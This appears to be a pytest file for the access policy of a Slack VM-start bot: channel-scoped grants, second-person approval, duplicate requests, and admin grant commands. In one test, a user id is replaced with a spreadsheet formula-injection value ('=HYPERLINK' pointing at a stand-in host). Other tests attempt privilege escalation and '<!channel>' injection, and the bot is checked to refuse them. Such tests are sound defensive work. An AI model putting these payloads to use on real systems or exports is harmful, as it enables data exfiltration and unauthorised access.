"""Policy end to end: channel-scoped grants, second-person approval, no duplicates, help, grants from chat."""

from __future__ import annotations

import concurrent.futures
from collections.abc import Callable

from bot.db import audit
from bot.db.session import Database
from bot.devtools.slack_driver import Confirmation, SlackDriver, has_buttons
from bot.devtools.slack_messages import message_text
from bot.devtools.slack_web_api import FakeSlackWebApi
from bot.devtools.zenlayer_simulator import ZenlayerSimulator
from bot.operations import repository
from bot.slack import action_ids
from tests.slack_support import ask_to_start, start_calls, wait_until


def button_labels(slack: SlackDriver, confirmation: object) -> list[str]:
    """Return the button texts on a confirmation."""
    message = slack.message(confirmation)  # type: ignore[arg-type]
    return [e["text"]["text"] for b in message.blocks if b.get("type") == "actions" for e in b.get("elements", [])]


def audit_events(database_url: str) -> list[tuple[str, str]]:
    """Return (event, actor) of every audit event, oldest first."""
    db = Database(database_url)
    try:
        with db.session(readonly=True) as session:
            return [(e.event, e.actor) for e in reversed(audit.latest(session, limit=1000))]
    finally:
        db.close()


def stored_message_ts(database_url: str, request_id: int) -> str | None:
    """Return the confirmation ts the bot stored for a request."""
    db = Database(database_url)
    try:
        with db.session(readonly=True) as session:
            request = repository.record(session, request_id)
            return request.message_ts if request else None
    finally:
        db.close()


def test_grant_limited_to_one_channel_is_refused_elsewhere_and_names_where_it_works(
    slack: SlackDriver, grant: Callable[..., None], simulator: ZenlayerSimulator
) -> None:
    grant("U0REQUEST", "web-*", channels=["C0OPS"])

    response, _ = slack.command("start web-1", channel="C0OTHER")
    reply = slack.ack_text(response)
    assert "`web-1` can be started from <#C0OPS>" in reply

    slack.command("start web-1", channel="C0OPS")
    assert slack.wait_confirmation(channel="C0OPS").request_id > 0
    assert start_calls(simulator) == []


def test_needs_approval_requester_cannot_approve_but_a_second_person_can(
    slack: SlackDriver, grant: Callable[..., None], simulator: ZenlayerSimulator, database_url: str
) -> None:
    grant("U0REQUEST", "web-*", needs_approval=True)
    grant("U0APPROVER", "web-*", action="approve")
    slack.command("start web-1")
    confirmation = slack.wait_confirmation()
    shown = message_text(slack.message(confirmation))
    assert "needs approval" in shown
    assert "Waiting for <@U0APPROVER> to approve" in shown
    assert button_labels(slack, confirmation) == ["Approve", "Reject", "Cancel"]

    _, own = slack.click(confirmation, action_ids.APPROVE, user="U0REQUEST")
    assert "needs a second person" in slack.wait_private(own, "second person")
    _, start = slack.click(confirmation, action_ids.START, user="U0REQUEST")  # a forged Start on an approval
    assert "needs a second person" in slack.wait_private(start, "second person")
    assert has_buttons(slack.message(confirmation))

    slack.click(confirmation, action_ids.APPROVE, user="U0APPROVER")

    slack.wait_thread(confirmation, "All 1 instance RUNNING")
    assert "Approved by <@U0APPROVER>" in message_text(slack.message(confirmation))
    assert start_calls(simulator) == [["web-1"]]
    events = audit_events(database_url)
    assert ("request_approved", "U0APPROVER") in events
    assert ("click_refused", "U0REQUEST") in events


def test_approver_whose_grant_does_not_cover_every_id_is_refused(
    slack: SlackDriver, grant: Callable[..., None], simulator: ZenlayerSimulator
) -> None:
    grant("U0REQUEST", "web-*", needs_approval=True)
    grant("U0APPROVER", "web-1", action="approve")
    slack.command("start web-1 web-2")
    confirmation = slack.wait_confirmation()
    assert "Waiting for someone with an approve grant" in message_text(slack.message(confirmation))

    _, key = slack.click(confirmation, action_ids.APPROVE, user="U0APPROVER")

    assert "don't cover `web-2`" in slack.wait_private(key, "can't approve")
    assert has_buttons(slack.message(confirmation))
    assert start_calls(simulator) == []


def test_someone_without_any_grant_cannot_approve(
    slack: SlackDriver, grant: Callable[..., None], simulator: ZenlayerSimulator
) -> None:
    grant("U0REQUEST", "web-*", needs_approval=True)
    slack.command("start web-1")
    confirmation = slack.wait_confirmation()
    _, key = slack.click(confirmation, action_ids.APPROVE, user="U0STRANGER")
    assert "can't approve" in slack.wait_private(key, "can't approve")
    assert start_calls(simulator) == []


def test_reject_ends_the_request(slack: SlackDriver, grant: Callable[..., None], simulator: ZenlayerSimulator) -> None:
    grant("U0REQUEST", "web-*", needs_approval=True)
    grant("U0APPROVER", "*", action="approve")
    slack.command("start web-1")
    confirmation = slack.wait_confirmation()

    slack.click(confirmation, action_ids.REJECT, user="U0APPROVER")

    wait_until(lambda: not has_buttons(slack.message(confirmation)), what="buttons removed")
    assert "Rejected by <@U0APPROVER>" in message_text(slack.message(confirmation))
    assert start_calls(simulator) == []


def test_pending_approval_expires(
    start_bot: Callable[..., tuple[object, SlackDriver]], grant: Callable[..., None], simulator: ZenlayerSimulator
) -> None:
    _, slack = start_bot(APPROVAL_TTL_SECONDS="1", CONFIRM_TTL_SECONDS="600")
    grant("U0REQUEST", "web-*", needs_approval=True)
    grant("U0APPROVER", "*", action="approve")
    slack.command("start web-1")
    confirmation = slack.wait_confirmation()

    wait_until(lambda: "Expired" in message_text(slack.message(confirmation)), what="approval expiry")
    _, key = slack.click(confirmation, action_ids.APPROVE, user="U0APPROVER")
    assert "expired" in slack.wait_private(key, "expired")
    assert start_calls(simulator) == []


def test_approver_group_is_mentioned_when_configured(
    start_bot: Callable[..., tuple[object, SlackDriver]], grant: Callable[..., None]
) -> None:
    _, slack = start_bot(APPROVER_GROUP_ID="S0APPROVERS")
    grant("U0REQUEST", "web-*", needs_approval=True)
    slack.command("start web-1")
    confirmation = slack.wait_confirmation()
    assert "Waiting for <!subteam^S0APPROVERS> to approve" in message_text(slack.message(confirmation))


def test_retyping_a_pending_request_points_at_the_existing_confirmation(
    slack: SlackDriver, grant: Callable[..., None], fake_slack: FakeSlackWebApi, database_url: str
) -> None:
    grant("U0REQUEST", "web-*")
    slack.command("start web-1 web-2")
    first = slack.wait_confirmation()
    wait_until(lambda: stored_message_ts(database_url, first.request_id), what="the confirmation's ts stored")

    _, key = slack.command("start web-2, web-1")

    reply = slack.wait_private(key, "already asked")
    assert f"p{first.ts.replace('.', '')}" in reply  # the permalink of the first confirmation
    assert len([m for m in fake_slack.channel_messages("C0CHANNEL") if has_buttons(m)]) == 1


def web_1_booting_for_someone_else(
    slack: SlackDriver, grant: Callable[..., None], simulator: ZenlayerSimulator
) -> Confirmation:
    """U0REQUEST starts web-1 (booting for 30 s); U0OTHER holds a grant on web-* too. Return the first request."""
    simulator.boot_seconds = 30
    grant("U0OTHER", "web-*")
    first = ask_to_start(slack, grant)
    slack.click(first, action_ids.START)
    slack.wait_thread(first, "BOOTING")
    return first


def test_an_id_being_started_by_another_request_is_not_started_again(
    slack: SlackDriver, grant: Callable[..., None], simulator: ZenlayerSimulator
) -> None:
    first = web_1_booting_for_someone_else(slack, grant, simulator)

    _, key = slack.command("start web-1", user="U0OTHER")

    reply = slack.wait_private(key, "Nothing to start")
    assert "already being started" in reply and f"p{first.ts.replace('.', '')}" in reply
    assert start_calls(simulator) == [["web-1"]]


def test_a_confirmation_links_ids_skipped_because_another_request_holds_them(
    slack: SlackDriver, grant: Callable[..., None], simulator: ZenlayerSimulator, fake_slack: FakeSlackWebApi
) -> None:
    first = web_1_booting_for_someone_else(slack, grant, simulator)

    slack.command("start web-1 web-2", user="U0OTHER")

    shown = fake_slack.wait_for(
        lambda: next(
            (
                message_text(m)
                for m in fake_slack.channel_messages("C0CHANNEL")
                if has_buttons(m) and "already being started" in message_text(m)
            ),
            None,
        ),
        what="the second confirmation",
    )
    assert "already being started" in shown and f"p{first.ts.replace('.', '')}" in shown  # the first thread's link
    assert "web-2" in shown


def test_linkified_and_smart_punctuated_ids_are_understood(slack: SlackDriver, grant: Callable[..., None]) -> None:
    grant("U0REQUEST", "web-*")
    slack.command("start <http://web-1|web-1>,\u201cweb\u20142\u201d")
    shown = message_text(slack.message(slack.wait_confirmation()))
    assert "wants to start 2 instances" in shown and "`web-1`" in shown and "`web-2`" in shown


def test_help_and_grants_show_only_what_the_caller_may_do(slack: SlackDriver, grant: Callable[..., None]) -> None:
    grant("U0REQUEST", "web-*", channels=["C0OPS"])

    _, help_key = slack.command("help", channel="C0OPS")
    shown = slack.wait_private(help_key, "What you can do")
    assert "/vm start" in shown and "start `web-*` in <#C0OPS>" in shown
    assert "/vm grant @user" not in shown

    _, elsewhere = slack.command("help", channel="C0OTHER")
    assert "None of your grants can be used in this channel" in slack.wait_private(elsewhere, "What you can do")

    _, grants_key = slack.command("grants")
    assert "start `web-*` in <#C0OPS>" in slack.wait_private(grants_key, "Your vm-bot grants")


def test_admin_grants_and_revokes_from_slack_and_nobody_else_can(
    slack: SlackDriver, grant: Callable[..., None], database_url: str
) -> None:
    grant("U0ADMIN", "web-*", action="admin")

    _, key = slack.command("grant <@U0NEW|newbie> web-* \u2014channel <#C0OPS|ops>", user="U0ADMIN")
    assert "Granted: <@U0NEW> may start `web-*` in <#C0OPS>" in slack.wait_private(key, "Granted")

    _, help_key = slack.command("help", user="U0ADMIN")
    assert "/vm grant @user" in slack.wait_private(help_key, "What you can do")

    slack.command("start web-1", user="U0NEW", channel="C0OPS")
    assert slack.wait_confirmation(channel="C0OPS").request_id > 0

    _, denied = slack.command("grant <@U0NEW> db-*", user="U0ADMIN")  # outside the admin's own reach
    assert "You need an admin grant" in slack.wait_private(denied, "admin grant")
    _, stranger = slack.command("grant <@U0STRANGER> web-*", user="U0NEW")
    assert "You need an admin grant" in slack.wait_private(stranger, "admin grant")
    _, bad = slack.command("grant <@U0NEW> web-<!channel>", user="U0ADMIN")
    assert "&lt;!channel&gt;" in slack.wait_private(bad, "not an instance pattern")

    _, revoke_key = slack.command("revoke <@U0NEW> web-*", user="U0ADMIN")
    assert "Removed 1 grant from <@U0NEW>" in slack.wait_private(revoke_key, "Removed")
    after, _ = slack.command("start web-2", user="U0NEW", channel="C0OPS")
    assert "You may not start" in slack.ack_text(after)

    events = audit_events(database_url)
    assert ("grant_added", "U0ADMIN") in events and ("grant_revoked", "U0ADMIN") in events
    wait_until(lambda: ("denied", "U0NEW") in audit_events(database_url), what="the refusal audited")


def test_a_grant_for_something_that_is_not_a_member_is_refused_before_it_is_decided_or_audited(
    slack: SlackDriver, grant: Callable[..., None], database_url: str
) -> None:
    grant("U0NEW", "web-*")  # no admin grant: such a command used to be audited as denied, naming its subject
    typed = 'grant =HYPERLINK("https://x.example/?"&A1) web-*'

    _, key = slack.command(typed, user="U0NEW")

    refusal = slack.wait_private(key, "not a Slack member id")
    assert "`=HYPERLINK(" in refusal and "You need an admin grant" not in refusal
    _, fine = slack.command("grant <@U0OTHER> web-*", user="U0NEW")  # a member id still reaches the admin check
    assert "You need an admin grant" in slack.wait_private(fine, "admin grant")
    wait_until(lambda: ("denied", "U0NEW") in audit_events(database_url), what="the member-id refusal audited")
    assert audit_events(database_url).count(("denied", "U0NEW")) == 1


def grants_of(database_url: str, user: str) -> list[tuple[str, str, str]]:
    """Return (action, pattern, channel) of a user's grants."""
    from bot.grants import rules as grants

    db = Database(database_url)
    try:
        with db.session(readonly=True) as session:
            return [(g.action, g.pattern, g.channel_id) for g in grants.list_grants(session, user)]
    finally:
        db.close()


def test_a_channel_scoped_admin_can_neither_grant_nor_revoke_any_channel_grants(
    slack: SlackDriver, grant: Callable[..., None], database_url: str
) -> None:
    grant("U0ADMIN", "web-*", action="admin", channels=["C0OPS"])
    grant("U0VICTIM", "web-*")  # an any-channel grant someone else made

    _, sneaky = slack.command("grant <@U0MAL> web-* --channel <#C0OPS> --channel *", user="U0ADMIN", channel="C0OPS")
    _, escalate = slack.command("grant <@U0MAL> web-* --channel * --action admin", user="U0ADMIN", channel="C0OPS")
    _, delete = slack.command(
        "revoke <@U0VICTIM> web-* --channel <#C0OPS> --channel *", user="U0ADMIN", channel="C0OPS"
    )

    for key in (sneaky, escalate, delete):
        assert "You need an admin grant" in slack.wait_private(key, "admin grant")
    assert grants_of(database_url, "U0MAL") == []
    assert grants_of(database_url, "U0VICTIM") == [("start", "web-*", "*")]
    refused, _ = slack.command("start web-1", user="U0MAL", channel="C0PROD")
    assert "You may not start" in slack.ack_text(refused)


def test_the_same_command_sent_twice_at_once_gives_one_confirmation(
    slack: SlackDriver, grant: Callable[..., None], fake_slack: FakeSlackWebApi, simulator: ZenlayerSimulator
) -> None:
    grant("U0REQUEST", "web-*")
    simulator.fail_next("DescribeInstances", times=2, status=200, hang_seconds=0.5)  # both look up at once

    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        keys = [key for _, key in pool.map(lambda _: slack.command("start web-1"), range(2))]

    slack.wait_confirmation()
    pointer = fake_slack.wait_for(
        lambda: [k for k in keys if any("already asked" in t for t in slack.private_replies(k))], what="a pointer"
    )
    assert len(pointer) == 1
    assert len([m for m in fake_slack.channel_messages("C0CHANNEL") if has_buttons(m)]) == 1


def test_the_losing_click_of_overlapping_requests_links_to_the_request_that_holds_the_instance(
    slack: SlackDriver, grant: Callable[..., None], simulator: ZenlayerSimulator
) -> None:
    simulator.boot_seconds = 30
    grant("U0REQUEST", "web-*")
    grant("U0OTHER", "web-*")
    slack.command("start web-1")
    first = slack.wait_confirmation()
    slack.command("start web-1 web-2", user="U0OTHER")
    second = slack.wait_confirmation(index=1)
    slack.click(first, action_ids.START)
    slack.wait_thread(first, "BOOTING")

    _, key = slack.click(second, action_ids.START, user="U0OTHER")

    reply = slack.wait_private(key, "already being started")
    assert "`web-1`" in reply and f"p{first.ts.replace('.', '')}" in reply  # a link to the holder's thread
    assert start_calls(simulator) == [["web-1"]]
    assert has_buttons(slack.message(second))  # still pending: it can be cancelled, or clicked once web-1 is done
